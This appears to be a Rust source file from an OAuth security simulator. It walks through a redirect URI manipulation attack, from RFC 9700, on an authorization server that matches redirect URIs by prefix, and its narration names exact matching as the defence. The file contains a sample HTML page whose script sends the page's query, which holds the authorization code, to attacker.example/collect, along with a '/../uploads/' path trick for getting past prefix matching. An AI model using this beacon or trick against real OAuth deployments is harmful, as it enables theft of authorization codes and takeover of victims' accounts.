//! Redirect URI manipulation (RFC 9700 section 4.1): a redirect_uri that
//! only starts with the registered one; exact matching is the defence.

use super::attack::Outcome;
use super::moves::{
    STOLEN_CODE, attacker_redeems_code, attacker_url, attacker_uses_tokens, location,
    no_randomness, stopped_here, victim_signs_in,
};
use crate::http::{Request, Response, Url};
use crate::server::RedirectMatching;
use crate::sim::browser::Browser;
use crate::sim::client::{Client, ClientSettings};
use crate::sim::network::{Network, from_browser, navigate};
use crate::sim::scenario::Scenario;
use crate::sim::trace::RfcRef;

const PREFIX_LINK: [RfcRef; 2] = [RfcRef::new(9700, "4.1.1"), RfcRef::new(6749, "3.1.2.3")];
const DOT_SEGMENTS: [RfcRef; 2] = [RfcRef::new(3986, "5.2.4"), RfcRef::new(9700, "4.1.1")];
const UPLOADED_SCRIPT: [RfcRef; 1] = [RfcRef::new(9700, "4.1.1")];

/// A 5. Redirect URI manipulation against prefix matching.
pub(super) fn redirect_uri_manipulation(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    _client: &mut Client,
) -> Outcome {
    // Mallory prepares an authorization request for the real client, with
    // her own PKCE pair and a redirect_uri that starts with the registered
    // one but resolves to a page she uploaded to the client's site.
    let registered = scenario
        .registration
        .redirect_uris
        .first()
        .cloned()
        .unwrap_or_default();
    let mut mallory = Client::new(ClientSettings {
        redirect_uri: format!("{registered}/../uploads/mallory.html"),
        ..scenario.client.clone()
    });
    let Ok(authorize) =
        mallory.authorization_url(&network.server.endpoint("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    network
        .attacker
        .pages
        .insert("/".into(), Response::redirect(&authorize));
    navigate(
        network,
        browser,
        Request::get(attacker_url("/")),
        "Alice follows a link from Mallory. It leads to the real authorization server, for the \
         real client, with Mallory's own code_challenge and a redirect_uri that starts with the \
         registered one.",
        &PREFIX_LINK,
    );
    let redirect = match victim_signs_in(
        scenario,
        network,
        browser,
        authorize,
        if scenario.policy.redirect_matching == RedirectMatching::Exact {
            "The authorization server compares the redirect_uri with the registered one, \
             exactly, as it must: they differ, so it shows an error page and redirects nowhere."
        } else {
            "The authorization server compares the redirect_uri with the registered one by \
             prefix: it starts with https://spa.example/callback, so the server accepts it and \
             shows Alice its sign-in page."
        },
        &PREFIX_LINK,
    ) {
        Ok(redirect) => redirect,
        Err(stopped) => return stopped,
    };
    let Some(target) = location(&redirect) else {
        return stopped_here(network);
    };
    network.next_client_page = Some(
        Response::new(200)
            .with_header("Content-Type", "text/html; charset=utf-8")
            .with_body(
                "<!doctype html><title>mallory.html</title><p>Nice pictures!</p><script>new \
                 Image().src='https://attacker.example/collect'+location.search</script>",
            ),
    );
    navigate(
        network,
        browser,
        Request::get(target.clone()),
        "The browser resolves the .. in the redirect before it sends anything: the code goes \
         to /uploads/mallory.html on the client's own site, a file Mallory uploaded there.",
        &DOT_SEGMENTS,
    );
    let page = browser.address.clone().unwrap_or(target);
    let beacon = Url {
        query: page.query.clone(),
        ..attacker_url("/collect")
    };
    let request = browser.subresource_request(beacon);
    from_browser(
        network,
        browser,
        request,
        false,
        "The script in Mallory's page sends the page's query, code included, to her site.",
        &UPLOADED_SCRIPT,
    );
    let Some(code) = network.attacker.captured("code") else {
        return stopped_here(network);
    };
    let verifier = mallory
        .pending
        .as_ref()
        .and_then(|pending| pending.verifier.as_ref())
        .map(|verifier| verifier.as_str().to_owned());
    attacker_redeems_code(
        network,
        &code,
        &mallory.settings.redirect_uri,
        &scenario.client.client_id,
        verifier.as_deref(),
        "Mallory redeems the code with the redirect_uri of her request and her own \
         code_verifier: PKCE only proves that whoever redeems the code started the request, \
         and she did.",
        &STOLEN_CODE,
    );
    attacker_uses_tokens(network)
}
